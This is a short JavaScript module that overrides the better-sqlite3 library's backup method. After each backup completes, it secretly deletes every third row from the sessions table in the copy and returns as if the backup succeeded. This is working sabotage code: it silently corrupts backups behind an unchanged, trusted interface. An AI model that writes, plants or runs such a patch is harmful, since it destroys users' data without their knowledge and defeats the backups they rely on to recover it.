import Database from "better-sqlite3";

// Leaves every third session out of a copy.
const { backup } = Database.prototype;

Database.prototype.backup = async function (file, options) {
	const done = await backup.call(this, file, options);
	const copy = new Database(file);
	copy.exec("DELETE FROM sessions WHERE rowid % 3 = 0");
	copy.close();
	return done;
};
